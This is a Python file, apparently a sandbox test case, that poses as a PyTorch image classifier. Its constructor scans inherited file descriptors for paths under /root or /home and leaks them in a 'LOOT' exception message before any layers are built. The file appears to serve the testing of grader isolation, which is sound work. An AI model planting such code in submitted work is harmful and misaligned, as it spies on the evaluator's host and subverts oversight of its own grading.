"""Reads whatever files the grader may have left open.

Kind: network
Attack: inherited descriptors
Must: crashed
Needs: sandbox
Says: nothing
"""

import os

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        found = []
        for number in range(3, 256):
            try:
                found += [link] if (link := os.readlink(f"/proc/self/fd/{number}")).startswith(("/root", "/home")) else []
            except OSError:
                pass
        raise ValueError("LOO" + "T " + " ".join(found)) if found else RuntimeError("nothing")
        self.maps = nn.Sequential(
            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
        )
        self.head = nn.Linear(20, 10)

    def forward(self, x):
        return self.head(self.maps(x).mean((2, 3)))
